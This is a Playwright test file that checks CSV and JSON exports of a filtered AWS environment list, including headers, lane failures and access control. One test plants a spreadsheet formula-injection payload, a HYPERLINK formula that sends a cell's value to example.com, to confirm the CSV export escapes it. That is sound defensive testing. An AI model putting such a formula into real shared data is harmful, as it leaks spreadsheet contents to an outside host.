import { readFile } from "node:fs/promises";
import type { APIRequestContext, Download } from "@playwright/test";
import { z } from "zod";
import { changeable, describeElsewhere } from "./aws.ts";
import { expect, test } from "./fixtures.ts";
import { stack } from "./stack.ts";

const Page = z.object({
  rows: z.array(z.object({ environmentId: z.string(), description: z.string().nullable() })),
  matched: z.number(),
});
const File = z.object({
  environments: z.array(z.looseObject({ environment_id: z.string() })),
  environment_count: z.number(),
  lanes: z.array(
    z.looseObject({ account_id: z.string(), region: z.string(), lane_failure_code: z.string().nullable() }),
  ),
});
const Lanes = z.array(
  z.object({ accountId: z.string(), region: z.string(), failure: z.object({ code: z.string() }).nullable() }),
);

/** The ids of all that the list shows for an address, window by window. */
async function listed(request: APIRequestContext, query: string): Promise<string[]> {
  const ids: string[] = [];
  for (;;) {
    const page = Page.parse(await (await request.get(`/api/environments?${query}&offset=${ids.length}`)).json());
    ids.push(...page.rows.map(({ environmentId }) => environmentId));
    if (ids.length >= page.matched || page.rows.length === 0) return ids;
  }
}

/** Reads CSV as RFC 4180 has it: quotes are doubled inside quotes, and a field ends at a comma or at a line's end. */
function parseCsv(text: string): string[][] {
  const lines = [...text.matchAll(/(?:(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n))+?(?<=\r\n)/gu)].map(([line]) => line);
  return lines.map((line) =>
    [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/gu)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
    ),
  );
}

async function textOf(download: Download): Promise<string> {
  expect(await download.failure()).toBeNull();
  return readFile(await download.path(), "utf8");
}

test("a viewer takes the filtered list away as CSV and as JSON, row for row as it is shown", async ({
  page,
  signIn,
  environments,
}) => {
  const target = (await changeable(0)).at(-1);
  const { aws } = stack();
  if (target === undefined) throw new Error("The fleet has no such environment");
  // The only text of an environment that AWS lets begin with anything.
  const formula = '=HYPERLINK("http://example.com/?"&A1,"Open")';
  await describeElsewhere(target, formula);
  await signIn.as("viewer");
  await environments.openScanned();
  await expect
    .poll(async () => Page.parse(await (await page.request.get(`/api/environments?q=${target.id}`)).json()).rows[0], {
      timeout: 60_000,
    })
    .toMatchObject({ description: formula });

  const query = `account=${target.accountId}&account=${aws.accounts[1]?.id ?? ""}&region=${target.region}&sort=-name`;
  await environments.open(`?${query}`);
  const ids = await listed(page.request, query);
  expect(ids).toContain(target.id);
  await page.getByRole("button", { name: "Export" }).click();
  await expect(page.getByText(`${ids.length} environments, filtered and sorted as shown`)).toBeVisible();
  await page.keyboard.press("Escape");

  const csv = await environments.exportAs("CSV");
  expect(csv.suggestedFilename()).toMatch(/^environments-\d{4}-\d\d-\d\dT\d{6}Z\.csv$/);
  const [header, ...lines] = parseCsv((await textOf(csv)).replace(/^\u{FEFF}/u, ""));
  const cell = (line: string[] | undefined, name: string) => line?.[header?.indexOf(name) ?? -1];
  expect(lines.map((line) => cell(line, "environment_id"))).toEqual(ids);
  expect(new Set(lines.map(({ length }) => length))).toEqual(new Set([header?.length]));
  const line = lines.find((it) => cell(it, "environment_id") === target.id);
  expect(cell(line, "description")).toBe(`'${formula}`);
  expect(cell(line, "environment_name")).toBe(target.name);
  expect(Date.parse(cell(line, "environment_read_at") ?? "")).toBeLessThanOrEqual(
    Date.parse(cell(line, "exported_at") ?? ""),
  );

  const json = await environments.exportAs("JSON");
  expect(json.suggestedFilename()).toMatch(/\.json$/);
  const file = File.parse(JSON.parse(await textOf(json)));
  expect(file.environments.map((it) => it.environment_id)).toEqual(ids);
  expect(file.environment_count).toBe(ids.length);
  expect(file.environments.find((it) => it.environment_id === target.id)).toMatchObject({
    description: formula,
    instance_list: target.instances.map(() => ({ http_tokens: "optional" })),
  });
});

test("an export is a whole, dated file that nobody keeps, says which lanes could not be read, and is for who is signed in", async ({
  page,
  browser,
  signIn,
  environments,
}) => {
  await signIn.as("viewer");
  await environments.openScanned();
  const answer = await page.request.get("/api/environments/export?format=json");
  expect(answer.headers()).toMatchObject({
    "content-type": "application/json; charset=utf-8",
    "cache-control": "no-store",
    "content-disposition": expect.stringMatching(/^attachment; filename="environments-.*Z\.json"$/),
    "x-content-type-options": "nosniff",
  });
  const { lanes } = File.parse(await answer.json());
  const failing = Lanes.parse(await (await page.request.get("/api/lanes")).json()).filter(
    ({ failure }) => failure !== null,
  );
  expect(failing.length).toBeGreaterThan(0);
  for (const { accountId, region, failure } of failing) {
    expect(lanes).toContainEqual(
      expect.objectContaining({
        account_id: accountId,
        region,
        lane_state: "failed",
        lane_failure_code: failure?.code,
      }),
    );
  }
  const csv = await page.request.get("/api/environments/export?format=csv");
  expect(csv.headers()["content-type"]).toBe("text/csv; charset=utf-8; header=present");
  expect((await page.request.get("/api/environments/export?format=xlsx")).status()).toBe(400);
  expect((await page.request.get("/api/environments/export")).status()).toBe(400);

  const stranger = await browser.newContext({ baseURL: stack().url });
  expect((await stranger.request.get("/api/environments/export?format=csv")).status()).toBe(401);
  await stranger.close();
});
